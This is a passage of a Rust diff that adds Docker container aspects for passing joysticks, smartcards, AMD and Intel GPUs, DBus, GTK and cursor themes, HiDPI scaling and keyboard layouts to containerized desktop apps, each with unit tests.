+            vec!["--device", "/dev/video2", "--group-add", "video"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_video_devices() -> Result<()> {
+        let dev = tempfile::tempdir()?;
+        match (Webcam {
+            devices: Vec::new(),
+        })
+        .run_args_in(dev.path())
+        {
+            Err(Error::MissingDirectory) => (),
+            other => panic!("expected MissingDirectory, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+/// Game controller device nodes plus the `input` group needed to open them. Without explicit
+/// `devices` every `/dev/input/js*` joystick node is passed along with the `event*` nodes udev
+/// identifies as joysticks, leaving keyboards and mice alone; if none are plugged in the container
+/// runs without them.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq, Default)]
+pub struct Joystick {
+    pub devices: Vec<String>,
+}
+
+impl Joystick {
+    /// Passes exactly the given device nodes.
+    pub fn devices(devices: Vec<String>) -> Joystick {
+        Joystick { devices }
+    }
+
+    /// Joystick nodes under `input` (usually `/dev/input`), sorted.
+    fn find_devices(input: &Path) -> Result<Vec<String>> {
+        let mut found: Vec<String> = fs::read_dir(input)?
+            .filter_map(std::result::Result::ok)
+            .filter(|e| e.file_name().to_string_lossy().starts_with("js"))
+            .map(|e| e.path().to_string_lossy().to_string())
+            .collect();
+        // udev links the controller's event nodes as by-id/*-event-joystick
+        if let Ok(links) = fs::read_dir(input.join("by-id")) {
+            for link in links.filter_map(std::result::Result::ok) {
+                if !link
+                    .file_name()
+                    .to_string_lossy()
+                    .ends_with("-event-joystick")
+                {
+                    continue;
+                }
+                if let Ok(target) = fs::read_link(link.path()) {
+                    if let Some(name) = target.file_name() {
+                        found.push(input.join(name).to_string_lossy().to_string());
+                    }
+                }
+            }
+        }
+        found.sort();
+        found.dedup();
+        Ok(found)
+    }
+
+    fn run_args_in(&self, input: &Path) -> Result<Vec<String>> {
+        let devices = if self.devices.is_empty() {
+            let found = if input.is_dir() {
+                Joystick::find_devices(input)?
+            } else {
+                Vec::new()
+            };
+            if found.is_empty() {
+                warn!("no joysticks found in {}, running without", input.display());
+                return Ok(Vec::new());
+            }
+            found
+        } else {
+            self.devices.clone()
+        };
+
+        let mut args: Vec<String> = devices
+            .iter()
+            .flat_map(|d| vec![String::from("--device"), d.to_string()])
+            .collect();
+        args.extend(GroupAdd(vec![String::from("input")]).run_args(None)?);
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for Joystick {
+    fn name(&self) -> String {
+        String::from("Joystick")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_in(Path::new("/dev/input"))
+    }
+}
+
+#[cfg(test)]
+mod joystick_should {
+    use super::*;
+    use std::os::unix::fs::symlink;
+
+    fn input_group() -> Result<Vec<String>> {
+        GroupAdd(vec!["input".to_string()]).run_args(None)
+    }
+
+    #[test]
+    fn pass_joysticks_and_their_event_nodes() -> Result<()> {
+        let input = tempfile::tempdir()?;
+        for node in &[
+            "js1", "js0", "event3", "event7", "event12", "mice", "mouse0",
+        ] {
+            fs::write(input.path().join(node), "")?;
+        }
+        let by_id = input.path().join("by-id");
+        fs::create_dir(&by_id)?;
+        symlink("../event7", by_id.join("usb-Pad-event-joystick"))?;
+        symlink("../js0", by_id.join("usb-Pad-joystick"))?;
+        symlink("../event3", by_id.join("usb-Keyboard-event-kbd"))?;
+        let node = |n: &str| input.path().join(n).to_string_lossy().to_string();
+
+        let mut expected = vec![
+            "--device".to_string(),
+            node("event7"),
+            "--device".to_string(),
+            node("js0"),
+            "--device".to_string(),
+            node("js1"),
+        ];
+        expected.extend(input_group()?);
+        assert_eq!(Joystick::default().run_args_in(input.path())?, expected);
+        Ok(())
+    }
+
+    #[test]
+    fn pass_listed_devices() -> Result<()> {
+        let input = tempfile::tempdir()?;
+        let mut expected = vec!["--device".to_string(), "/dev/input/js3".to_string()];
+        expected.extend(input_group()?);
+        assert_eq!(
+            Joystick::devices(vec!["/dev/input/js3".to_string()]).run_args_in(input.path())?,
+            expected
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn skip_when_no_joysticks_are_present() -> Result<()> {
+        let input = tempfile::tempdir()?;
+        fs::write(input.path().join("event0"), "")?;
+        fs::write(input.path().join("mice"), "")?;
+        assert!(Joystick::default().run_args_in(input.path())?.is_empty());
+        assert!(Joystick::default()
+            .run_args_in(&input.path().join("missing"))?
+            .is_empty());
+        Ok(())
+    }
+}
+
+/// Smartcards and hardware security keys through the host's PC/SC daemon, whose socket is mounted
+/// into the container so apps talk to the host `pcscd`. `reader` additionally passes a USB reader
+/// device, e.g. `/dev/bus/usb/001/004`, for running `pcscd` inside the container instead.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Smartcard {
+    pub reader: Option<String>,
+}
+
+impl Smartcard {
+    const SOCKET: &'static str = "/run/pcscd/pcscd.comm";
+
+    fn run_args_for(&self, socket: &Path) -> Result<Vec<String>> {
+        if !socket.exists() {
+            return Err(Error::MissingDirectory);
+        }
+        let mut args = vec![
+            String::from("-v"),
+            format!("{}:{}", socket.to_string_lossy(), Smartcard::SOCKET),
+        ];
+        if let Some(reader) = &self.reader {
+            args.push(String::from("--device"));
+            args.push(reader.clone());
+        }
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for Smartcard {
+    fn name(&self) -> String {
+        String::from("Smartcard")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(Smartcard::SOCKET))
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    pcscd \
+    libccid \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod smartcard_should {
+    use super::*;
+
+    #[test]
+    fn mount_pcscd_socket() -> Result<()> {
+        let run = tempfile::tempdir()?;
+        let socket = run.path().join("pcscd.comm");
+        fs::write(&socket, "")?;
+        assert_eq!(
+            Smartcard { reader: None }.run_args_for(&socket)?,
+            vec![
+                "-v".to_string(),
+                format!("{}:/run/pcscd/pcscd.comm", socket.to_string_lossy()),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn pass_reader_device() -> Result<()> {
+        let run = tempfile::tempdir()?;
+        let socket = run.path().join("pcscd.comm");
+        fs::write(&socket, "")?;
+        let args = Smartcard {
+            reader: Some("/dev/bus/usb/001/004".to_string()),
+        }
+        .run_args_for(&socket)?;
+        assert_eq!(args[2..], ["--device", "/dev/bus/usb/001/004"]);
+        Ok(())
+    }
+
+    #[test]
+    fn require_running_pcscd() -> Result<()> {
+        let run = tempfile::tempdir()?;
+        match (Smartcard { reader: None }).run_args_for(&run.path().join("pcscd.comm")) {
+            Err(Error::MissingDirectory) => Ok(()),
+            other => panic!("expected MissingDirectory, got {:?}", other),
+        }
+    }
+}
+
+/// AMD GPU compute through ROCm: the `/dev/kfd` compute interface and the `/dev/dri` render
+/// nodes, plus the `video` and `render` groups owning them. `gfx_version` sets
+/// `HSA_OVERRIDE_GFX_VERSION`, which GPUs that ROCm doesn't officially support need to be used,
+/// e.g. `10.3.0` for most RDNA2 cards.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Rocm {
+    pub gfx_version: Option<String>,
+}
+
+impl Rocm {
+    fn run_args_in(&self, dev: &Path) -> Result<Vec<String>> {
+        let kfd = dev.join("kfd");
+        if !kfd.exists() {
+            return Err(Error::MissingDirectory);
+        }
+
+        let mut args = Vec::new();
+        for device in &[kfd, dev.join("dri")] {
+            args.push(String::from("--device"));
+            args.push(device.to_string_lossy().to_string());
+        }
+        args.extend(GroupAdd(vec![String::from("video"), String::from("render")]).run_args(None)?);
+        if let Some(version) = &self.gfx_version {
+            args.push(String::from("-e"));
+            args.push(format!("HSA_OVERRIDE_GFX_VERSION={}", version));
+        }
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for Rocm {
+    fn name(&self) -> String {
+        String::from("Rocm")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_in(Path::new("/dev"))
+    }
+}
+
+#[cfg(test)]
+mod rocm_should {
+    use super::*;
+
+    fn groups() -> Result<Vec<String>> {
+        GroupAdd(vec!["video".to_string(), "render".to_string()]).run_args(None)
+    }
+
+    #[test]
+    fn pass_compute_and_render_devices_with_their_groups() -> Result<()> {
+        let dev = tempfile::tempdir()?;
+        fs::write(dev.path().join("kfd"), "")?;
+        fs::create_dir(dev.path().join("dri"))?;
+        let node = |n: &str| dev.path().join(n).to_string_lossy().to_string();
+
+        let mut expected = vec![
+            "--device".to_string(),
+            node("kfd"),
+            "--device".to_string(),
+            node("dri"),
+        ];
+        expected.extend(groups()?);
+        assert_eq!(
+            Rocm { gfx_version: None }.run_args_in(dev.path())?,
+            expected
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn override_gfx_version_when_configured() -> Result<()> {
+        let dev = tempfile::tempdir()?;
+        fs::write(dev.path().join("kfd"), "")?;
+        let args = Rocm {
+            gfx_version: Some("10.3.0".to_string()),
+        }
+        .run_args_in(dev.path())?;
+        assert_eq!(
+            args[args.len() - 2..],
+            ["-e", "HSA_OVERRIDE_GFX_VERSION=10.3.0"]
+        );
+        assert_eq!(args[4..args.len() - 2], groups()?[..]);
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_kfd() -> Result<()> {
+        let dev = tempfile::tempdir()?;
+        fs::create_dir(dev.path().join("dri"))?;
+        match (Rocm { gfx_version: None }).run_args_in(dev.path()) {
+            Err(Error::MissingDirectory) => Ok(()),
+            other => panic!("expected MissingDirectory, got {:?}", other),
+        }
+    }
+}
+
+/// The VA-API driver `IntelGpu` selects: `iHD` for Broadwell and newer GPUs, `i965` for older
+/// ones.
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+pub enum IntelVaDriver {
+    #[serde(rename = "iHD")]
+    Ihd,
+    #[serde(rename = "i965")]
+    I965,
+}
+
+impl IntelVaDriver {
+    fn name(self) -> &'static str {
+        match self {
+            IntelVaDriver::Ihd => "iHD",
+            IntelVaDriver::I965 => "i965",
+        }
+    }
+
+    fn package(self) -> &'static str {
+        match self {
+            IntelVaDriver::Ihd => "intel-media-va-driver",
+            IntelVaDriver::I965 => "i965-va-driver",
+        }
+    }
+}
+
+/// VA-API video acceleration on an Intel GPU, e.g. for video playback in browsers: passes the
+/// Intel render node and the `render` group owning it, and selects and installs the VA-API
+/// driver.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct IntelGpu {
+    pub driver: IntelVaDriver,
+}
+
+impl IntelGpu {
+    const INTEL_VENDOR_ID: &'static str = "0x8086";
+
+    /// Finds the first render node in `drm_class` (usually `/sys/class/drm`) whose device is made
+    /// by Intel, as a path under `dev`.
+    fn render_node(dev: &Path, drm_class: &Path) -> Result<PathBuf> {
+        let mut nodes: Vec<PathBuf> = fs::read_dir(drm_class)
+            .map_err(|_| Error::MissingIntelRenderNode)?
+            .filter_map(std::result::Result::ok)
+            .filter(|e| e.file_name().to_string_lossy().starts_with("renderD"))
+            .filter(
+                |e| match fs::read_to_string(e.path().join("device").join("vendor")) {
+                    Ok(vendor) => vendor.trim() == IntelGpu::INTEL_VENDOR_ID,
+                    Err(_) => false,
+                },
+            )
+            .map(|e| dev.join("dri").join(e.file_name()))
+            .collect();
+        nodes.sort();
+        nodes
+            .into_iter()
+            .next()
+            .ok_or(Error::MissingIntelRenderNode)
+    }
+
+    fn run_args_in(&self, dev: &Path, drm_class: &Path) -> Result<Vec<String>> {
+        let node = IntelGpu::render_node(dev, drm_class)?;
+        let mut args = vec![
+            String::from("--device"),
+            node.to_string_lossy().to_string(),
+            String::from("-e"),
+            format!("LIBVA_DRIVER_NAME={}", self.driver.name()),
+        ];
+        args.extend(GroupAdd(vec![String::from("render")]).run_args(None)?);
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for IntelGpu {
+    fn name(&self) -> String {
+        String::from("IntelGpu")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_in(Path::new("/dev"), Path::new("/sys/class/drm"))
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: format!(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    {} \
+    vainfo \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+                self.driver.package()
+            ),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod intel_gpu_should {
+    use super::*;
+
+    /// A fake `/sys/class/drm` with a render node per vendor id.
+    fn drm_class(vendors: &[(&str, &str)]) -> Result<tempfile::TempDir> {
+        let dir = tempfile::tempdir()?;
+        for (node, vendor) in vendors {
+            let device = dir.path().join(node).join("device");
+            fs::create_dir_all(&device)?;
+            fs::write(device.join("vendor"), format!("{}\n", vendor))?;
+        }
+        fs::create_dir_all(dir.path().join("card0"))?;
+        Ok(dir)
+    }
+
+    #[test]
+    fn pass_intel_render_node_and_select_driver() -> Result<()> {
+        let drm = drm_class(&[("renderD128", "0x1002"), ("renderD129", "0x8086")])?;
+        let args = IntelGpu {
+            driver: IntelVaDriver::Ihd,
+        }
+        .run_args_in(Path::new("/dev"), drm.path())?;
+        assert_eq!(
+            args[..4],
+            [
+                "--device",
+                "/dev/dri/renderD129",
+                "-e",
+                "LIBVA_DRIVER_NAME=iHD"
+            ]
+        );
+        assert_eq!(
+            args[4..],
+            GroupAdd(vec!["render".to_string()]).run_args(None)?[..]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn select_legacy_driver() -> Result<()> {
+        let drm = drm_class(&[("renderD128", "0x8086")])?;
+        let gpu = IntelGpu {
+            driver: IntelVaDriver::I965,
+        };
+        let args = gpu.run_args_in(Path::new("/dev"), drm.path())?;
+        assert_eq!(args[3], "LIBVA_DRIVER_NAME=i965");
+        assert!(gpu.dockerfile_snippets()[0]
+            .content
+            .contains("i965-va-driver"));
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_intel_render_node() -> Result<()> {
+        let drm = drm_class(&[("renderD128", "0x10de")])?;
+        match (IntelGpu {
+            driver: IntelVaDriver::Ihd,
+        })
+        .run_args_in(Path::new("/dev"), drm.path())
+        {
+            Err(Error::MissingIntelRenderNode) => Ok(()),
+            other => panic!("expected MissingIntelRenderNode, got {:?}", other),
+        }
+    }
+}
+
+#[derive(Clone)]
+pub struct DBus {}
+impl ContainerAspect for DBus {
+    fn name(&self) -> String {
+        String::from("DBus")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let home = env_var("HOME")?;
+        let xdg_runtime_dir = env_var("XDG_RUNTIME_DIR")?;
+
+        Ok(vec![
+            "-v",
+            format!("{0}/bus:{0}/bus", xdg_runtime_dir).as_str(),
+            "-v",
+            format!("{0}:{0}", "/var/run/dbus/system_bus_socket").as_str(),
+            "-v",
+            format!("{0}/.dbus/session-bus:{0}/.dbus/session-bus", home).as_str(),
+            "-e",
+            format!("DBUS_SESSION_BUS_ADDRESS=unix:path={}/bus", xdg_runtime_dir).as_str(),
+        ]
+        .into_iter()
+        .map(String::from)
+        .collect())
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    dbus-x11 \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+}
+
+/// Makes containerized GTK apps use a host GTK theme. When `name` is unset the host's current
+/// theme is read from `gsettings`, if available; `mount_themes` also bind-mounts the host user's
+/// theme and GTK 3 settings directories read-only into the container user's home.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct GtkTheme {
+    pub name: Option<String>,
+    pub mount_themes: bool,
+}
+
+impl GtkTheme {
+    fn theme(&self) -> Option<String> {
+        match &self.name {
+            Some(n) => Some(n.to_string()),
+            None => host_gtk_theme(),
+        }
+    }
+}
+
+impl ContainerAspect for GtkTheme {
+    fn name(&self) -> String {
+        String::from("GtkTheme")
+    }
+    fn run_args_with(&self, _: Option<&ArgMatches>, context: &Context) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        match self.theme() {
+            Some(theme) => args.extend(gtk_theme_env(&theme)),
+            None => debug!("no GTK theme configured or detected on the host"),
+        }
+        if self.mount_themes {
+            args.extend(gtk_theme_mounts(
+                Path::new(&env_var("HOME")?),
+                &context.home()?,
+            ));
+        }
+        Ok(args)
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    libgtk-3-0 \
+    gnome-themes-extra \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+}
+
+fn gtk_theme_env(theme: &str) -> Vec<String> {
+    vec![
+        String::from("-e"),
+        format!("GTK_THEME={}", theme),
+        String::from("-e"),
+        format!("GTK2_RC_FILES=/usr/share/themes/{}/gtk-2.0/gtkrc", theme),
+    ]
+}
+
+/// Only directories that exist are mounted so docker doesn't create them root-owned on the host.
+fn gtk_theme_mounts(host_home: &Path, container_home: &str) -> Vec<String> {
+    [".themes", ".config/gtk-3.0"]
+        .iter()
+        .filter(|dir| host_home.join(dir).is_dir())
+        .flat_map(|dir| {
+            vec![
+                String::from("-v"),
+                format!(
+                    "{}:{}/{}:ro",
+                    host_home.join(dir).to_string_lossy(),
+                    container_home,
+                    dir
+                ),
+            ]
+        })
+        .collect()
+}
+
+fn host_gtk_theme() -> Option<String> {
+    let output = std::process::Command::new("gsettings")
+        .args(&["get", "org.gnome.desktop.interface", "gtk-theme"])
+        .output()
+        .ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    parse_gsettings_string(&String::from_utf8_lossy(&output.stdout))
+}
+
+/// `gsettings get` prints string values single-quoted, e.g. `'Adwaita-dark'`.
+fn parse_gsettings_string(output: &str) -> Option<String> {
+    let value = output.trim().trim_matches('\'');
+    if value.is_empty() {
+        None
+    } else {
+        Some(value.to_string())
+    }
+}
+
+#[cfg(test)]
+mod gtk_theme_should {
+    use super::*;
+
+    #[test]
+    fn emit_theme_env() -> Result<()> {
+        let aspect = GtkTheme {
+            name: Some("Adwaita-dark".to_string()),
+            mount_themes: false,
+        };
+        assert_eq!(
+            aspect.run_args_with(None, &Context::default())?,
+            vec![
+                "-e",
+                "GTK_THEME=Adwaita-dark",
+                "-e",
+                "GTK2_RC_FILES=/usr/share/themes/Adwaita-dark/gtk-2.0/gtkrc",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn mount_existing_theme_dirs_read_only() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        fs::create_dir(home.path().join(".themes"))?;
+
+        let themes = home.path().join(".themes");
+        assert_eq!(
+            gtk_theme_mounts(home.path(), "/home/me"),
+            vec![
+                "-v".to_string(),
+                format!("{}:/home/me/.themes:ro", themes.to_string_lossy())
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn parse_host_theme_from_gsettings() {
+        assert_eq!(
+            parse_gsettings_string("'Adwaita-dark'\n"),
+            Some("Adwaita-dark".to_string())
+        );
+        assert_eq!(parse_gsettings_string("''\n"), None);
+        assert_eq!(parse_gsettings_string(""), None);
+    }
+}
+
+/// Mouse cursor theme and size for X11 and Wayland apps; only sets `XCURSOR_*` variables and
+/// read-only icon mounts so it pairs with either display aspect.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct CursorTheme {
+    pub name: String,
+    pub size: u32,
+}
+
+impl CursorTheme {
+    const DEFAULT_SIZE: u32 = 24;
+
+    pub fn new(name: &str, size: u32) -> Result<Self> {
+        if name.is_empty() || size == 0 {
+            return Err(Error::InvalidCursorTheme(format!("{}:{}", name, size)));
+        }
+        Ok(CursorTheme {
+            name: name.to_string(),
+            size,
+        })
+    }
+
+    /// Mounts the host user's `~/.icons` into the container user's home and the system icons at
+    /// the same path.
+    fn run_args_for(&self, host_home: &Path, container_home: &str) -> Result<Vec<String>> {
+        let theme = CursorTheme::new(&self.name, self.size)?;
+        let mut args = vec![
+            String::from("-e"),
+            format!("XCURSOR_THEME={}", theme.name),
+            String::from("-e"),
+            format!("XCURSOR_SIZE={}", theme.size),
+        ];
+        let dirs = vec![
+            (
+                host_home.join(".icons"),
+                format!("{}/.icons", container_home),
+            ),
+            (
+                PathBuf::from("/usr/share/icons"),
+                String::from("/usr/share/icons"),
+            ),
+        ];
+        for (host, container) in dirs {
+            if host.is_dir() {
+                args.push(String::from("-v"));
+                args.push(format!("{}:{}:ro", host.to_string_lossy(), container));
+            }
+        }
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for CursorTheme {
+    fn name(&self) -> String {
+        format!("CursorTheme: {}", self.name)
+    }
+    fn run_args_with(&self, _: Option<&ArgMatches>, context: &Context) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(&env_var("HOME")?), &context.home()?)
+    }
+}
+
+impl TryFrom<&str> for CursorTheme {
+    type Error = Error;
+
+    /// Parses `<name>[:<size>]`, defaulting to a size of 24.
+    fn try_from(s: &str) -> Result<Self> {
+        let mut parts = s.splitn(2, ':');
+        let name = parts.next().unwrap_or("");
+        let size = match parts.next() {
+            Some(v) => v
+                .parse::<u32>()
+                .map_err(|_| Error::InvalidCursorTheme(s.to_string()))?,
+            None => CursorTheme::DEFAULT_SIZE,
+        };
+        CursorTheme::new(name, size).map_err(|_| Error::InvalidCursorTheme(s.to_string()))
+    }
+}
+
+#[cfg(test)]
+mod cursor_theme_should {
+    use super::*;
+
+    #[test]
+    fn emit_cursor_env() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        let args = CursorTheme::new("Adwaita", 32)?.run_args_for(home.path(), "/home/me")?;
+        assert_eq!(
+            args[..4].to_vec(),
+            vec!["-e", "XCURSOR_THEME=Adwaita", "-e", "XCURSOR_SIZE=32"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn mount_user_icons_into_container_home() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        let icons = home.path().join(".icons");
+        fs::create_dir(&icons)?;
+        let args = CursorTheme::new("Adwaita", 32)?.run_args_for(home.path(), "/home/me")?;
+        assert_eq!(
+            args[4..6].to_vec(),
+            vec![
+                "-v".to_string(),
+                format!("{}:/home/me/.icons:ro", icons.to_string_lossy())
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn parse_name_and_optional_size() -> Result<()> {
+        assert_eq!(
+            CursorTheme::try_from("DMZ-White:48")?,
+            CursorTheme::new("DMZ-White", 48)?
+        );
+        assert_eq!(CursorTheme::try_from("DMZ-White")?.size, 24);
+        Ok(())
+    }
+
+    #[test]
+    fn reject_zero_size() {
+        assert!(CursorTheme::try_from("Adwaita:0").is_err());
+        assert!(CursorTheme::try_from("Adwaita:big").is_err());
+        assert!(CursorTheme::try_from(":24").is_err());
+    }
+}
+
+/// Scales GTK and Qt apps consistently from a single factor, e.g. `1.5` on a fractionally scaled
+/// host display. GTK only scales widgets by whole numbers, so `GDK_SCALE` takes the integer part
+/// and `GDK_DPI_SCALE` scales text by the remainder.
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq)]
+pub struct HiDpi {
+    pub scale: f32,
+}
+
+impl ContainerAspect for HiDpi {
+    fn name(&self) -> String {
+        String::from("HiDpi")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let gdk_scale = self.scale.floor().max(1.0);
+        Ok(vec![
+            String::from("-e"),
+            format!("GDK_SCALE={}", gdk_scale),
+            String::from("-e"),
+            format!("GDK_DPI_SCALE={}", self.scale / gdk_scale),
+            String::from("-e"),
+            format!("QT_SCALE_FACTOR={}", self.scale),
+            // Qt would otherwise multiply the factor by its own guess from the screen DPI
+            String::from("-e"),
+            String::from("QT_AUTO_SCREEN_SCALE_FACTOR=0"),
+        ])
+    }
+}
+
+impl TryFrom<&str> for HiDpi {
+    type Error = Error;
+    fn try_from(s: &str) -> Result<Self> {
+        match s.parse::<f32>() {
+            Ok(scale) if scale.is_finite() && scale > 0.0 => Ok(HiDpi { scale }),
+            _ => Err(Error::InvalidHiDpiScale(s.to_string())),
+        }
+    }
+}
+
+#[cfg(test)]
+mod hidpi_should {
+    use super::*;
+
+    fn env(scale: &str) -> Result<Vec<String>> {
+        Ok(HiDpi::try_from(scale)?
+            .run_args(None)?
+            .into_iter()
+            .filter(|a| a != "-e")
+            .collect())
+    }
+
+    #[test]
+    fn derive_env_from_fractional_scale() -> Result<()> {
+        assert_eq!(
+            env("1.5")?,
+            vec![
+                "GDK_SCALE=1",
+                "GDK_DPI_SCALE=1.5",
+                "QT_SCALE_FACTOR=1.5",
+                "QT_AUTO_SCREEN_SCALE_FACTOR=0"
+            ]
+        );
+        assert_eq!(
+            env("2.5")?,
+            vec![
+                "GDK_SCALE=2",
+                "GDK_DPI_SCALE=1.25",
+                "QT_SCALE_FACTOR=2.5",
+                "QT_AUTO_SCREEN_SCALE_FACTOR=0"
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn derive_env_from_whole_and_small_scales() -> Result<()> {
+        assert_eq!(
+            env("2")?,
+            vec![
+                "GDK_SCALE=2",
+                "GDK_DPI_SCALE=1",
+                "QT_SCALE_FACTOR=2",
+                "QT_AUTO_SCREEN_SCALE_FACTOR=0"
+            ]
+        );
+        assert_eq!(env("0.75")?[..2], ["GDK_SCALE=1", "GDK_DPI_SCALE=0.75"]);
+        Ok(())
+    }
+
+    #[test]
+    fn reject_non_positive_scales() {
+        for value in &["0", "-1.5", "abc", "", "inf", "NaN"] {
+            match HiDpi::try_from(*value) {
+                Err(Error::InvalidHiDpiScale(v)) => assert_eq!(v, *value),
+                other => panic!("expected InvalidHiDpiScale, got {:?}", other),
+            }
+        }
+    }
+}
+
+/// XKB keyboard layout for apps that read the `XKB_DEFAULT_*` variables, e.g. under Wayland.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct KeyboardLayout {
+    pub layout: String,
+    pub variant: Option<String>,
+    pub options: Vec<String>,
+}
+
+impl KeyboardLayout {
+    fn validate(&self) -> Result<()> {
+        if self.layout.is_empty() || !self.layout.chars().all(|c| c.is_ascii_alphabetic()) {
+            return Err(Error::InvalidKeyboardLayout(self.layout.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for KeyboardLayout {
+    fn name(&self) -> String {
+        format!("KeyboardLayout: {}", self.layout)
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        let mut args = vec![
+            String::from("-e"),
+            format!("XKB_DEFAULT_LAYOUT={}", self.layout),
+        ];
+        if let Some(variant) = &self.variant {
+            args.push(String::from("-e"));
+            args.push(format!("XKB_DEFAULT_VARIANT={}", variant));
+        }
+        if !self.options.is_empty() {
+            args.push(String::from("-e"));
+            args.push(format!("XKB_DEFAULT_OPTIONS={}", self.options.join(",")));
+        }
+        Ok(args)
+    }
+}
+
+impl TryFrom<&str> for KeyboardLayout {
+    type Error = Error;
+
+    /// Parses `<layout>[:<variant>[:<option>,...]]`; options may contain colons themselves, e.g.
+    /// `us::ctrl:nocaps`.
+    fn try_from(s: &str) -> Result<Self> {
+        let mut parts = s.splitn(3, ':');
+        let layout = parts.next().unwrap_or("").to_string();
+        let variant = parts.next().filter(|v| !v.is_empty()).map(String::from);
+        let options = parts
+            .next()
+            .map(|o| {
+                o.split(',')
+                    .filter(|o| !o.is_empty())
+                    .map(String::from)
+                    .collect()
+            })
+            .unwrap_or_default();
+        let kl = KeyboardLayout {
+            layout,
+            variant,
+            options,
+        };
+        kl.validate()?;
+        Ok(kl)
+    }
+}
+
+#[cfg(test)]
+mod keyboard_layout_should {
+    use super::*;
+
+    #[test]
+    fn emit_layout_and_variant() -> Result<()> {
+        assert_eq!(
+            KeyboardLayout::try_from("de:nodeadkeys")?.run_args(None)?,
+            vec![
+                "-e",
+                "XKB_DEFAULT_LAYOUT=de",
+                "-e",
+                "XKB_DEFAULT_VARIANT=nodeadkeys",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn emit_options() -> Result<()> {
+        let kl = KeyboardLayout {
+            layout: "us".to_string(),
+            variant: None,
+            options: vec!["ctrl:nocaps".to_string(), "compose:ralt".to_string()],
+        };
+        assert_eq!(
+            kl.run_args(None)?,
+            vec![
+                "-e",
+                "XKB_DEFAULT_LAYOUT=us",
+                "-e",
+                "XKB_DEFAULT_OPTIONS=ctrl:nocaps,compose:ralt",
+            ]
+        );
+        assert_eq!(
+            KeyboardLayout::try_from("us::ctrl:nocaps,compose:ralt")?,
+            kl
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_invalid_layout() {
+        assert!(KeyboardLayout::try_from("").is_err());
+        assert!(KeyboardLayout::try_from("d3:nodeadkeys").is_err());
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ImeKind {
+    Fcitx,
+    Ibus,
+}
+
+impl ImeKind {
+    fn module(self) -> &'static str {
+        match self {
+            ImeKind::Fcitx => "fcitx",
+            ImeKind::Ibus => "ibus",
+        }
+    }
+}
+
